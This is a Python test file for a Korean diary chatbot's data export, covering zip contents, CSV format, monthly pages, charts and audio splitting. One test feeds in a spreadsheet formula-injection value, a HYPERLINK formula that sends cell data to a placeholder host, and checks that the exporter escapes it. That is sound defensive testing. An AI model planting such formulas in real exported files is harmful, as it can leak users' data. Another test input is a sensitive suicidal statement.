"""What people take along: readable for them, exact for programs, and theirs alone."""

import csv
import io
import json
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bot.conversation.export import PART_BYTES, export_document
from bot.conversation.export_charts import MOST_MONTHS, drawn_charts
from bot.errors import ChannelError
from bot.messages import Clip, Document, Emotion, Entry, Language, Outgoing
from bot.ports import Answer
from bot.texts.catalogue import Texts
from tests.conversation.house import House, Somebody

DOCUMENTED = Path(__file__).resolve().parents[2] / "docs" / "export-format.md"
NIGHT = datetime(2026, 1, 31, 15, 30, tzinfo=UTC)


def opened(document: Document | None) -> Mapping[str, bytes]:
    assert document is not None
    with zipfile.ZipFile(io.BytesIO(document.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def keep(somebody: Somebody, entry_id: str, text: str, moment: datetime, audio: bytes = b"") -> None:
    """Put an entry into the store as if it had been told at a moment."""
    store, incoming = somebody.house.store, replace(somebody.message(text), received_utc=moment)
    entry = Entry(entry_id, somebody.person.id, incoming.key, moment, text, bool(audio), Emotion.SADNESS, None)
    store.record(incoming, somebody.person.id)
    store.commit_answer(incoming.key, Answer(Outgoing(text="…")), entry=entry, turn=None)
    store.mark_done(incoming.key)
    if audio:
        store.save_audio(entry_id, Clip(audio, "audio/ogg; codecs=opus", 1.0))


async def test_an_export_holds_json_a_table_pages_and_clips(house: House) -> None:
    haru = house.friend(keeps_audio=True)
    await haru.tell("오늘은 부엉이바위에 다녀왔어요")
    await haru.speak(sound=b"OggS real")
    files = opened((await haru.tell("/export")).document)
    assert list(files) == [
        *("todaktodak.json", "entries.csv", "diary/2025-11.md"),
        *("charts/2025.png", "charts/2025-11.png", "audio/00001.ogg"),
    ]
    tree = json.loads(files["todaktodak.json"])
    assert [entry["text"] for entry in tree["entries"]] == ["오늘은 부엉이바위에 다녀왔어요", house.hearing.text]
    assert tree["turns"][0]["bot_text"] in files["diary/2025-11.md"].decode()
    assert files["audio/00001.ogg"] == b"OggS real"
    assert tree["audio"][0]["file"] == "audio/00001.ogg"


async def test_the_table_opens_in_excel_and_is_no_formula(house: House) -> None:
    haru = house.friend()
    keep(haru, "e1", '=HYPERLINK("http://x.test?"&A1)', NIGHT)
    keep(haru, "e2", '첫 줄\n둘째 줄, "따옴표"', NIGHT + timedelta(minutes=1))
    content = opened((await haru.tell("/export")).document)["entries.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    heading, first, second = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert heading[:4] == ["날짜", "시각", "마음", "글"]
    assert first[:4] == ["2026-02-01", "00:30", "슬픔", '\'=HYPERLINK("http://x.test?"&A1)']
    assert second[3] == '첫 줄\n둘째 줄, "따옴표"'


async def test_pages_are_cut_by_the_persons_own_months(house: House) -> None:
    haru = house.friend()
    keep(haru, "e1", "1월의 글", NIGHT - timedelta(hours=1))
    keep(haru, "e2", "2월의 글", NIGHT)
    files = opened((await haru.tell("/export")).document)
    assert "# 2026년 1월" in files["diary/2026-01.md"].decode()
    assert "> 2월의 글" in files["diary/2026-02.md"].decode()


async def test_the_same_moment_gives_the_same_bytes(house: House) -> None:
    haru = house.friend()
    await haru.tell("오늘은 부엉이바위에 다녀왔어요")
    records = house.store.records(haru.person.id)
    assert records is not None
    first, second = (export_document(records, {}, {"charts/2026-01.png": b"PNG"}, Texts(Language.KO), NIGHT) for _ in range(2))
    assert first == second


async def test_somebody_without_entries_still_takes_their_settings_along(house: House) -> None:
    haru = house.friend(zone="Europe/Berlin")
    tree = json.loads(opened((await haru.tell("/export")).document)["todaktodak.json"])
    assert tree["person"]["zone"] == "Europe/Berlin"
    assert tree["accounts"] == [{"channel": "telegram", "user_id": "haru", "chat_id": "chat-haru"}]


async def test_many_clips_come_in_pieces_that_every_channel_takes(house: House) -> None:
    haru = house.friend()
    for number in range(5):
        keep(haru, f"e{number}", "들은 말", NIGHT + timedelta(minutes=number), bytes([number]) * (PART_BYTES // 2 - 1))
    await haru.tell("/export")
    documents = [sent.outgoing.document for sent in house.screen.sent if sent.outgoing.document]
    assert [document.file_name for document in documents] == [
        "todaktodak-20251122-audio-1.zip",
        "todaktodak-20251122-audio-2.zip",
        "todaktodak-20251122.zip",
    ]
    clips = {name: content for document in documents for name, content in opened(document).items() if name.startswith("audio/")}
    assert sorted(clips) == [f"audio/0000{number}.ogg" for number in range(1, 6)]


async def test_a_piece_that_a_channel_refuses_does_not_keep_the_rest_away(house: House) -> None:
    haru = house.friend()
    for number in range(2):
        keep(haru, f"e{number}", "들은 말", NIGHT + timedelta(minutes=number), b"x" * (PART_BYTES - 1 - number * 1_000))
    house.screen.send_errors.append(ChannelError("too large"))
    shown = await haru.tell("/export")
    assert Texts().say("export.audio_failed") in shown.text
    assert "audio/00002.ogg" in opened(shown.document)


async def test_every_name_in_the_json_is_explained(house: House) -> None:
    haru = house.friend(keeps_audio=True)
    await haru.tell("이제 그만 죽고 싶어요")
    await haru.speak(sound=b"OggS")
    tree = json.loads(opened((await haru.tell("/export")).document)["todaktodak.json"])
    written = DOCUMENTED.read_text(encoding="utf-8")
    rows = [row for part in tree.values() for row in (part if isinstance(part, list) else [part]) if isinstance(row, dict)]
    names = set(tree) | {name for row in rows for name in row}
    assert {name for name in names if f"`{name}`" not in written} == set()


async def test_every_month_and_year_that_was_told_of_has_its_picture(house: House) -> None:
    haru = house.friend()
    for moment in (NIGHT - timedelta(days=400), NIGHT, NIGHT + timedelta(minutes=1)):
        keep(haru, f"e{moment.isoformat()}", "글", moment)
    files = opened((await haru.tell("/export")).document)
    pictures = [name for name in files if name.startswith("charts/")]
    assert pictures == ["charts/2024.png", "charts/2026.png", "charts/2024-12.png", "charts/2026-02.png"]


async def test_of_a_long_diary_the_last_months_and_every_year_have_a_picture(house: House) -> None:
    haru = house.friend()
    for number in range(40):
        keep(haru, f"e{number}", "글", NIGHT + timedelta(days=31 * number))
    records = house.store.records(haru.person.id)
    assert records is not None
    charts = drawn_charts(records, house.painter, NIGHT + timedelta(days=2_000))
    years = [f"charts/{year}.png" for year in (2026, 2027, 2028, 2029)]
    assert list(charts)[:4] == years
    assert len(charts) == len(years) + MOST_MONTHS
    assert "charts/2026-02.png" not in charts


async def test_clips_that_have_no_room_beside_the_charts_go_ahead(house: House) -> None:
    haru = house.friend()
    keep(haru, "e1", "들은 말", NIGHT, b"x" * (PART_BYTES - 1))
    await haru.tell("/export")
    names = [sent.outgoing.document.file_name for sent in house.screen.sent if sent.outgoing.document]
    assert names == ["todaktodak-20251122-audio-1.zip", "todaktodak-20251122.zip"]
